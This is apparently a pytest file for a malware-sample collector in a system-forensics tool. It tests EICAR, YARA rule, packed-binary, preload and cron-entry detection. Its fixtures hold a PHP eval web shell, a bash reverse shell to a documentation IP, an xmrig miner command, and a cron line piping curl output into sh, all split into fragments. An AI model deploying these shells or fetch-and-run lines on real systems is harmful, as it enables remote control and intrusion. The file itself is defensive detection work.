"""The collector of samples: sources, windows, members of archives, user rules that cannot be used, and places that matter."""

from __future__ import annotations

import hashlib
import struct
from collections.abc import Mapping
from pathlib import Path

import pytest

from analyzers.collectors.eicar import TEST_STRING, is_eicar
from analyzers.collectors.sample_rules import masked
from analyzers.collectors.sample_types import classify, level_of
from analyzers.collectors.samples import SampleCollector
from analyzers.collectors.system_binaries import SystemBinaries
from analyzers.collectors.yara_cache import compiled_rules
from analyzers.collectors.yara_rules import RuleScanner
from analyzers.contract import OVERLAP, Entry, FileView, PassContext
from schemas.facts import Configuration, Fact, File, Sample, Skipped

SHELL = b"<?php @ev" + b"al($_PO" + b"ST['x']); ?>\n"
REVERSE = b"#!/bin/sh\nba" + b"sh -i >& /dev/" + b"tcp/198.51.100.7/4444 0>&1\n"


def view(path: str, data: bytes, mode: int = 0o644) -> FileView:
    return FileView(Entry(path, "file", mode, 0, 0, len(data)), data)


def facts(path: str, data: bytes, mode: int = 0o644, rule_files: Mapping[str, bytes] | None = None) -> list[Fact]:
    collector = SampleCollector(PassContext(b"key", rule_files or {}))
    return [*collector.collect(view(path, data, mode)), *collector.finish()]


def samples(path: str, data: bytes, mode: int = 0o644, rule_files: Mapping[str, bytes] | None = None) -> list[Sample]:
    return [fact for fact in facts(path, data, mode, rule_files) if isinstance(fact, Sample)]


def elf(code: bytes, executable: bool = True) -> bytes:
    """A 64-bit ELF file with one loaded segment."""
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5 if executable else 6, 120, 0, 0, len(code), len(code), 4096) + code


@pytest.mark.parametrize("tail", [b"", b"\n", b"\r\n", b" \t\x1a", b" " * 60])
def test_eicar_by_definition(tail: bytes) -> None:
    assert is_eicar(TEST_STRING + tail)
    (found,) = samples("srv/x.com", TEST_STRING + tail)
    assert (found.type, level_of(found.type, found.score)) == ("Engtest", "notice")


@pytest.mark.parametrize("data", [b"x" + TEST_STRING, TEST_STRING + b"x", TEST_STRING + b" " * 61, TEST_STRING[:-1]])
def test_what_is_no_eicar(data: bytes) -> None:
    assert samples("srv/x.com", data) == []


def test_script_in_a_picture_and_in_utf16() -> None:
    assert [one.type for one in samples("www/a.gif", b"GIF89a" + bytes(40) + SHELL)] == ["WebShell"]
    assert [one.type for one in samples("www/a.php", SHELL.decode().encode("utf-16"))] == ["WebShell"]


def test_windows_of_a_large_file() -> None:
    size = 3 * OVERLAP
    whole = (b"#!/bin/sh\n" + b"true\n" * size)[: 2 * size] + b"\n" + REVERSE.removeprefix(b"#!/bin/sh\n")
    entry = Entry("srv/big.sh", "file", 0o755, 0, 0, len(whole))
    collector = SampleCollector(PassContext(b"key"))
    first = list(collector.collect(FileView(entry, whole[:size], 0, False)))
    middle = list(collector.collect(FileView(entry, whole[size - OVERLAP : 2 * size], size - OVERLAP, False)))
    last = list(collector.collect(FileView(entry, whole[2 * size - OVERLAP :], 2 * size - OVERLAP, True)))
    assert (first, middle) == ([], [])
    assert [one.rule for one in last if isinstance(one, Sample)] == ["reverse_shell_of_a_shell"]


def test_hits_of_a_cut_file_are_told_at_the_end() -> None:
    collector = SampleCollector(PassContext(b"key"))
    entry = Entry("srv/x.sh", "file", 0o755, 0, 0, 10**7)
    assert list(collector.collect(FileView(entry, REVERSE, 0, False))) == []
    assert [fact.kind for fact in collector.finish()] == ["sample"]


def test_user_rules_good_and_bad() -> None:
    rules = {
        "mine.yar": b'rule MAL_Mine { strings: $a = "MARKER-OF-MINE" condition: $a } rule lost { condition: nosuch.value == 1 }',
        "broken.yara": b"rule {",
        "modules.yar": b'import "nosuchmodule" rule m { condition: nosuchmodule.x } rule kept { strings: $a = "MARKER" condition: $a }',
        "includes.yar": b'include "other.yar" rule inc { strings: $a = "MARKER" condition: $a and filename == "x.txt" }',
        "latin.yar": b'rule latin { meta: author = "J\xe9r\xf4me" strings: $a = "MARKER" condition: $a }',
    }
    found = facts("srv/x.txt", b"a MARKER-OF-MINE here", rule_files=rules)
    assert {(one.rule, one.type, one.score) for one in found if isinstance(one, Sample)} == {
        ("MAL_Mine", "Malware", 90),
        ("kept", "Suspicious", 75),
        ("inc", "Suspicious", 75),
        ("latin", "Suspicious", 75),
    }
    told = {one.reason.split(": ")[1] for one in found if isinstance(one, Skipped) and one.path == ""}
    assert told == {"mine.yar", "broken.yara", "modules.yar", "includes.yar"}


def test_compiled_rules_are_kept(tmp_path: Path) -> None:
    sources = (("a.yar", b'rule a { strings: $a = "MARKER" condition: $a }'), ("b.yar", b"rule {"))
    fresh = compiled_rules(sources, str(tmp_path))
    (kept,) = tmp_path.iterdir()
    compiled_rules.cache_clear()
    again = compiled_rules(sources, str(tmp_path))
    assert (again.problems, again.count) == (fresh.problems, 1)
    assert [hit.rule for hit in RuleScanner(again).scan(b"a MARKER")] == ["a"]
    for damage in (b"", kept.read_bytes()[:-9], b"\0\0\0\x02{}" + bytes(9)):
        kept.write_bytes(damage)
        compiled_rules.cache_clear()
        assert compiled_rules(sources, str(tmp_path)).count == 1
    compiled_rules.cache_clear()
    assert compiled_rules(sources, "/dev/null/nowhere").count == 1


@pytest.mark.parametrize(
    ("rule", "meta", "expected"),
    [
        ("MAL_LNX_Thing_May22", {}, ("Malware", 90)),
        ("APT_MAL_LNX_Implant", {}, ("Backdoor", 90)),
        ("webshell_php_x", {}, ("WebShell", 90)),
        ("SUSP_ELF_UPX", {}, ("Suspicious", 75)),
        ("PUA_LNX_XMRIG_CryptoMiner", {}, ("RiskWare", 65)),
        ("HKTL_Scan", {}, ("Hacktool", 65)),
        ("Linux_Cryptominer_Xmrig_1", {}, ("Miner", 90)),
        ("Linux_Trojan_Gafgyt_2", {}, ("DDoS", 90)),
        ("Linux_Ransomware_X", {"tc_detection_type": "Ransomware"}, ("RansomWare", 90)),
        ("anything", {}, ("Suspicious", 75)),
        ("MAL_X", {"score": 72}, ("Malware", 72)),
        ("x", {"type": "rootkit", "score": 95}, ("Rootkit", 95)),
        ("MAL_X", {"score": "high"}, ("Malware", 90)),
    ],
)
def test_rules_of_others(rule: str, meta: Mapping[str, object], expected: tuple[str, int]) -> None:
    assert classify(rule, (), meta) == expected


def test_reference_rules(reference_data: Path) -> None:
    files = {path.name: path.read_bytes() for path in (reference_data / "rules" / "yara").glob("*.yar")}
    script = b"#!/bin/sh\n./xmr" + b"ig -o strat" + b"um+tcp://pool.example.org:4444 -u abcdefgh -p x --dona" + b"te-level=1\n"
    found = facts("opt/a.sh", script, rule_files=files)
    assert [one for one in found if isinstance(one, Skipped)] == []
    assert "pua_cryptocoin_miner.yar" in {one.details.get("file") for one in found if isinstance(one, Sample)}


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("tmp/.x/run", "hidden_program"),
        ("usr/share/.hidden/run", "hidden_program"),
        ("var/tmp/... /run", "hidden_program"),
        ("dev/shm/k", "hidden_program"),
        ("root/.cargo/bin/tool", ""),
        ("usr/lib/debug/.build-id/ab/cd.debug", ""),
        ("usr/bin/tool", ""),
        ("srv/app/node_modules/.bin/tool", ""),
    ],
)
def test_programs_in_odd_places(path: str, rule: str) -> None:
    assert [one.rule for one in samples(path, elf(bytes(600)), 0o755)] == ([rule] if rule else [])


def test_packed_programs() -> None:
    noise = b"".join(hashlib.sha256(bytes([n % 256, n >> 8])).digest() for n in range(2000))
    assert [one.rule for one in samples("srv/p", elf(noise))] == ["packed_program"]
    assert [one.rule for one in samples("srv/p", elf(b"\x90\xc3" * 20000))] == []
    assert [one.rule for one in samples("srv/p", elf(b"UPX!" + bytes(500)))] == ["packed_program"]
    assert samples("srv/data", noise) == []


def test_preload_and_startup_entries() -> None:
    found = samples("etc/ld.so.preload", b"# x\n/usr/local/lib/libhook.so /usr/lib/libjemalloc.so.2\n")
    assert {(one.details["library"], one.type, one.score) for one in found} == {
        ("/usr/local/lib/libhook.so", "Rootkit", 75),
        ("/usr/lib/libjemalloc.so.2", "RiskWare", 62),
    }
    fetch = b"* * * * * root cu" + b"rl -fsSL https://a.example/x | " + b"sh\n"
    assert "startup_entry_fetches_code" in {one.rule for one in samples("etc/cron.d/x", fetch)}
    assert samples("etc/cron.d/x", b"# " + fetch) == []
    assert samples("usr/share/doc/README.md", b"Run `cu" + b"rl https://a.example | sh`\n") == []


def test_excerpts_hide_secrets() -> None:
    text = masked("curl -u https://dev:hunter2@x password=hunter2 key AKIAABCDEFGHIJKLMNOP1234567890")
    assert "hunter2" not in text
    assert "MNOP1234567890" not in text


def test_system_binaries_and_diversions() -> None:
    collector = SystemBinaries(PassContext(b"key"))
    program = elf(b"code")
    (fact,) = collector.collect(view("usr/bin/ls", program, 0o755))
    assert isinstance(fact, File)
    assert fact.md5 == hashlib.md5(program).hexdigest()
    assert list(collector.collect(view("usr/lib/x/plugin.so", program))) == []
    assert list(collector.collect(view("usr/bin/script", b"#!/bin/sh\n", 0o755))) == []
    assert len(list(collector.collect(view("usr/lib/x86_64-linux-gnu/security/pam_unix.so", program)))) == 1
    (moved,) = collector.collect(view("var/lib/dpkg/diversions", b"/bin/sh\n/bin/sh.distrib\ndash\n"))
    assert isinstance(moved, Configuration)
    assert (moved.directives[0].name, moved.directives[0].value) == ("bin/sh", "bin/sh.distrib")


def test_our_own_sources_are_clean() -> None:
    root = Path(__file__).resolve().parents[4]
    collector = SampleCollector(PassContext(b"key"))
    found = []
    for folder in ("analyzers", "streams", "schemas", "tests", "infra", "console", "sinks"):
        for path in sorted((root / folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts and "node_modules" not in path.parts:
                found += [
                    fact for fact in collector.collect(view(str(path.relative_to(root)), path.read_bytes())) if isinstance(fact, Sample)
                ]
    assert [(one.path, one.rule, one.line) for one in found] == []
